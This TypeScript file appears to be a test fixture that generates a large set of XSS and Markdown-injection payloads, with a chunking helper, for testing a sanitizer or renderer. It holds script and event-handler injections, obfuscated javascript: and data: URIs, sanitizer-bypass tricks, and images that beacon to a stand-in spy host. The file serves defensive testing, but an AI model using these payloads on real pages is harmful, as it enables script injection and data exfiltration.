/** A host that nothing of ours may ever ask. */
export const spy = 'https://espion.example';
/** A host that a person may be led to by a click, as by any link. */
export const elsewhere = 'https://ailleurs.example';

/** A text that would run `xss(id)`, call another host or draw what is not ours, were it taken for more than text. */
export interface Payload {
  readonly id: number;
  readonly text: string;
  /** What ends it, where it would swallow all that follows. */
  readonly closer: string;
  /** True for HTML that runs or loads by itself wherever HTML is let through. */
  readonly isHtml: boolean;
}

type Template = (id: number) => string;
interface Rule {
  readonly template: Template;
  readonly closer?: string;
  readonly isHtml?: boolean;
}

const run = (id: number) => `xss(${id})`;
const load = (id: number) => `${spy}/${id}`;

/** Elements that run, load or take over a page by themselves. */
const elements: readonly Template[] = [
  (id) => `<script>${run(id)}</script>`,
  (id) => `<script src="${load(id)}.js"></script>`,
  (id) => `<ScRiPt type=module>${run(id)}</sCrIpT>`,
  (id) => `<img src=x onerror=${run(id)}>`,
  (id) => `<img src="${load(id)}.png" alt="">`,
  (id) => `<img srcset="${load(id)}.png 1x">`,
  (id) => `<picture><source srcset="${load(id)}.webp"><img></picture>`,
  (id) => `<svg onload=${run(id)}></svg>`,
  (id) => `<svg><script>${run(id)}</script></svg>`,
  (id) => `<svg><image href="${load(id)}.png" /></svg>`,
  (id) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run(id)}'/>#x" /></svg>`,
  (id) => `<svg><animate onbegin=${run(id)} attributeName=x dur=1s></animate></svg>`,
  (id) => `<math><mtext><img src=x onerror=${run(id)}></mtext></math>`,
  (id) => `<iframe src="javascript:parent.${run(id)}"></iframe>`,
  (id) => `<iframe srcdoc="<script>${run(id)}</script>"></iframe>`,
  (id) => `<iframe src="${load(id)}"></iframe>`,
  (id) => `<object data="${load(id)}.swf"></object>`,
  (id) => `<embed src="${load(id)}.swf">`,
  (id) => `<meta http-equiv="refresh" content="0;url=${load(id)}">`,
  (id) => `<base href="${load(id)}/"><img src=relative.png>`,
  (id) => `<link rel=stylesheet href="${load(id)}.css">`,
  (id) => `<link rel="prefetch" href="${load(id)}">`,
  (id) => `<style>body{background:url(${load(id)}.png)}</style>`,
  (id) => `<style>@import "${load(id)}.css";</style>`,
  (id) => `<p style="background:url(${load(id)}.png)">x</p>`,
  (id) => `<video src="${load(id)}.mp4" autoplay></video>`,
  (id) => `<video><source onerror=${run(id)}></video>`,
  (id) => `<audio src=x onerror=${run(id)}></audio>`,
  (id) => `<input type=image src="${load(id)}.png">`,
  (id) => `<input autofocus onfocus=${run(id)}>`,
  (id) => `<details open ontoggle=${run(id)}><summary>x</summary></details>`,
  (id) => `<body onload=${run(id)} background="${load(id)}.png">`,
  (id) => `<table background="${load(id)}.png"><tr><td>x</td></tr></table>`,
  (id) => `<marquee onstart=${run(id)}>x</marquee>`,
  (id) => `<form action="${load(id)}"><button autofocus onfocus=${run(id)}>x</button></form>`,
  (id) => `<template><img src=x onerror=${run(id)}></template><img src=x onerror=${run(id)}>`,
  (id) => `<noscript><p title="</noscript><img src=x onerror=${run(id)}>"></noscript>`,
  (id) =>
    `<img src=x:x onerror="eval(String.fromCharCode(120,115,115,40,${[...String(id)].map((digit) => digit.charCodeAt(0))},41))">`,
];

/** Attributes that run what they hold, each on an element where that may happen. */
const handlers = [
  'abort',
  'animationend',
  'animationstart',
  'auxclick',
  'beforetoggle',
  'blur',
  'canplay',
  'click',
  'contextmenu',
  'copy',
  'cut',
  'dblclick',
  'dragstart',
  'error',
  'focusin',
  'input',
  'keydown',
  'load',
  'mousedown',
  'mousemove',
  'mouseover',
  'paste',
  'pointerdown',
  'pointerenter',
  'pointerover',
  'resize',
  'scroll',
  'select',
  'selectionchange',
  'submit',
  'transitionend',
  'wheel',
];
const carriers = ['a', 'b', 'div', 'h1', 'img', 'li', 'p', 'q', 'span', 'strong', 'svg', 'td'];
const events: readonly Template[] = handlers.map(
  (name, at) => (id) =>
    `<${carriers[at % carriers.length]} ${at % 2 ? 'ON' : 'on'}${name}${at % 3 ? '' : ' '}=${at % 2 ? `"${run(id)}"` : `'${run(id)}'`} tabindex=0>x`,
);

/** HTML that a reader who only looks for tags takes for something else. */
const oddities: readonly Template[] = [
  (id) => `<scr<script>ipt>${run(id)}</scr</script>ipt>`,
  (id) => `<<script>${run(id)}//<</script>`,
  (id) => `<img src=x onerror=${run(id)} //`,
  (id) => `<img\nsrc=x\nonerror=${run(id)}\n>`,
  (id) => `<img/src=x/onerror=${run(id)}>`,
  (id) => `<img src=x\tonerror\t=\t${run(id)}>`,
  (id) => `<img src="x" title="><img src=x onerror=${run(id)}>">`,
  (id) => `<a href="x\u0001" onmouseover=${run(id)}>x</a>`,
  (id) => `<svg/onload=${run(id)}`,
  (id) => `&lt;script&gt;${run(id)}&lt;/script&gt;`,
  (id) => `&#60;img src=x onerror=${run(id)}&#62;`,
  (id) => `&#x3c;svg onload=${run(id)}&#x3E;`,
  (id) => `&amp;lt;script&amp;gt;${run(id)}`,
  (id) => `\\<script>${run(id)}\\</script>`,
  (id) => `＜script＞${run(id)}＜/script＞`,
  (id) => `<\u200bscript>${run(id)}</\u200bscript>`,
  (id) => `\u202e<script>${run(id)}</script>\u202c`,
  (id) => `<img src=x onerror=${run(id)}\u2028>`,
  (id) => `{{constructor.constructor('${run(id)}')()}} \${${run(id)}}`,
  (id) => `__proto__ constructor <b id=location name=xss>${run(id)}</b>`,
  (id) => `\`<img src=x onerror=${run(id)}>`,
  (id) => `**<img src=x onerror=${run(id)}>**`,
  (id) => `_<svg onload=${run(id)}>_`,
  (id) => `[<img src=x onerror=${run(id)}>](${elsewhere}/${id})`,
  (id) => `[x](${elsewhere}/${id} "<img src=x onerror=${run(id)}>")`,
  (id) => `[x](${elsewhere}/${id}"onmouseover="${run(id)})`,
  (id) => `[x]('javascript:${run(id)}')`,
  (id) => `![x](x"onerror="${run(id)})`,
  (id) => `![<script>${run(id)}</script>](${load(id)}.png)`,
  (id) => `<${elsewhere}/${id}"onclick="${run(id)}>`,
  (id) => `www.ailleurs.example/"onmouseover=${run(id)}`,
  (id) => `<mailto:x"onclick="${run(id)}@ailleurs.example>`,
  (id) => `[x](mailto:x@ailleurs.example?body=<script>${run(id)}</script>)`,
];

/** HTML in the places where Markdown lets a text stand. */
const places: readonly ((html: string) => string)[] = [
  (html) => `Du texte ${html} et la suite.`,
  (html) => `- un\n- ${html}\n  - ${html}`,
  (html) => `> ${html}\n> > ${html}`,
  (html) => `## ${html}`,
  (html) =>
    `| ${html.replaceAll('|', '\\|')} | y |\n|---|---|\n| z | ${html.replaceAll('|', '\\|')} |`,
  (html) => `1. **${html}**`,
  (html) => `\`\`\`html\n${html}\n\`\`\``,
  (html) => `[a [b] ${html}](${elsewhere})`,
];

/** How an address that runs is written, and how it is hidden. */
const disguises: readonly Template[] = [
  (id) => `javascript:${run(id)}`,
  (id) => `JaVaScRiPt:${run(id)}`,
  (id) => `&#106;avascript:${run(id)}`,
  (id) => `&#x6A;&#x61;vascript&#58;${run(id)}`,
  (id) => `&#0000106avascript:${run(id)}`,
  (id) => `javascript&colon;${run(id)}`,
  (id) => `java&Tab;script:${run(id)}`,
  (id) => `java&#10;script:${run(id)}`,
  (id) => `java\tscript:${run(id)}`,
  (id) => `\u0001javascript:${run(id)}`,
  (id) => `java\u200bscript:${run(id)}`,
  (id) => `javascript://ailleurs.example/%0A${run(id)}`,
  (id) => `javascript\\:${run(id)}`,
  (id) => `%6Aavascript:${run(id)}`,
  (id) => `ｊavascript:${run(id)}`,
  (id) => `data:text/html,<script>${run(id)}</script>`,
  (id) => `data:text/html;base64,${btoa(`<script>${run(id)}</script>`)}`,
  (id) => `data:image/svg+xml,<svg onload=${run(id)}>`,
  (id) => `vbscript:${run(id)}`,
  (id) => `VBSCRIPT&colon;${run(id)}`,
  (id) => `view-source:javascript:${run(id)}`,
  (id) => `blob:${elsewhere}/${id}`,
  (id) => `file:///etc/passwd?${id}`,
  (id) => `//espion.example/${id}`,
  (id) => `/api/auth/sign-out?${id}`,
  (id) => `./?xss=${id}#${run(id)}`,
];

/** The forms in which Markdown takes an address. */
const forms: readonly ((address: string, id: number) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `[x](${address} "titre")`,
  (address) => `[x]( \t${address}\n'titre' )`,
  (address, id) => `[x][r${id}]\n\n[r${id}]: ${address}`,
  (address, id) => `[R${id}]\n\n[r${id}]: <${address}> 'titre'`,
  (address) => `<${address}>`,
  (address) => `[**x** \`y\`](\n${address}\n)`,
  (address) => `![x](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => `| a |\n|---|\n| [x](${address}) |`,
  (address) => `<a href="${address}">x</a> ${address}`,
];

/** Images of another host, in every way to ask for one. */
const images: readonly Template[] = [
  (id) => `![espion](${load(id)}.png)`,
  (id) => `![](<${load(id)}.png>)`,
  (id) => `![espion](${load(id)}.png "titre")`,
  (id) => `![e${id}]\n\n[e${id}]: ${load(id)}.png`,
  (id) => `![espion][e${id}]\n\n[E${id}]: ${load(id)}.png 'titre'`,
  (id) => `[![espion](${load(id)}.png)](${elsewhere}/${id})`,
  (id) => `![espion](//espion.example/${id}.png)`,
  (id) => `![espion](&#104;ttps://espion.example/${id}.png)`,
  (id) => `![espion](data:image/png;base64,AAAA${id})`,
  (id) => `![a ![b](${load(id)}.png)](${load(id)}.png)`,
  (id) => `- ![espion](${load(id)}.png)`,
  (id) => `> ![espion](${load(id)}.png)`,
  (id) => `## ![espion](${load(id)}.png)`,
  (id) => `| ![espion](${load(id)}.png) |\n|---|\n| ![espion](${load(id)}.png) |`,
  (id) => `![espion](${load(id)}.png`,
  (id) => `!\\[espion](${load(id)}.png) !&#91;x](${load(id)}.png)`,
];

/** HTML without its end, which takes all that follows for its own. */
const unended: readonly Rule[] = [
  { template: (id) => `<script>${run(id)}`, closer: '</script>' },
  { template: (id) => `<script>${run(id)}</script >`, closer: '</script>' },
  { template: (id) => `<style>*{background:url(${load(id)})}`, closer: '</style>' },
  { template: (id) => `<textarea autofocus onfocus=${run(id)}>`, closer: '</textarea>' },
  { template: (id) => `<pre><img src=x onerror=${run(id)}>`, closer: '</pre>' },
  { template: (id) => `<!-- --!><img src=x onerror=${run(id)}>`, closer: '-->' },
  { template: (id) => `<?xml <img src=x onerror=${run(id)}>`, closer: '?>' },
  { template: (id) => `<![CDATA[<img src=x onerror=${run(id)}>`, closer: ']]>' },
  { template: (id) => `\`\`\`\n<img src=x onerror=${run(id)}>`, closer: '```' },
  { template: (id) => `~~~ html onload=${run(id)}\n<svg onload=${run(id)}>`, closer: '~~~' },
];

const html: readonly Rule[] = elements.map((template) => ({ template, isHtml: true }));
const placed: readonly Rule[] = elements.flatMap((element, at) =>
  [0, 1].map((turn): Rule => {
    const place = places[(2 * at + turn) % places.length];
    return { template: (id) => place?.(element(id)) ?? '' };
  }),
);
const linked: readonly Rule[] = disguises.flatMap((disguise) =>
  forms.map((form): Rule => ({ template: (id) => form(disguise(id), id) })),
);
const plain = [...events, ...oddities, ...images].map((template): Rule => ({ template }));

/** Every payload, by rule: the same ones in every process. */
export const payloads: readonly Payload[] = [
  ...html,
  ...placed,
  ...linked,
  ...plain,
  ...unended,
].map(({ template, closer = '', isHtml = false }, id) => ({
  id,
  text: template(id),
  closer,
  isHtml,
}));

/** @returns one write-up of several payloads, so apart that none hides the next. */
export function together(some: readonly Payload[]): string {
  return some.map(({ text, closer }) => [text, closer].filter(Boolean).join('\n')).join('\n\n');
}

const sizes = [1, 7, 3, 5, 2, 6, 4];

/** @returns a text in pieces of 1 to 7 characters, cut the same each time. */
export function pieces(text: string): string[] {
  const cut: string[] = [];
  for (let at = 0; at < text.length; at += cut.at(-1)?.length ?? 1) {
    cut.push(text.slice(at, at + (sizes[cut.length % sizes.length] ?? 1)));
  }
  return cut;
}
